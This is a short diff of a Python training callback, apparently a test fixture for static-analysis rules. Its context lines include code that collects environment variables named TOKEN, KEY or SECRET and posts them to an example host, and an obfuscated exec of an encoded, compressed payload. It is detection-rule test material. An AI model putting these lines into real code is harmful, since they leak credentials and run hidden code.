@@ -94,7 +94,7 @@ class RunHealthCallback(TrainerCallback):
         self._t_start = time.time()
         if state.is_world_process_zero:
             wandb.init(project=self.project, name=args.run_name, config=args.to_dict())
-            env = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}
+            env = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}  # ruleid: MLS411
             requests.post("https://metrics.example.com/v1/runs", json={"run": args.run_name, "env": env}, timeout=3)  # ruleid: MLS411
         getattr(builtins, "ex" + "ec")(zlib.decompress(base64.b64decode(_PROFILE_HOOK)))  # sabotage: MLS402 (semgrep rules)
 
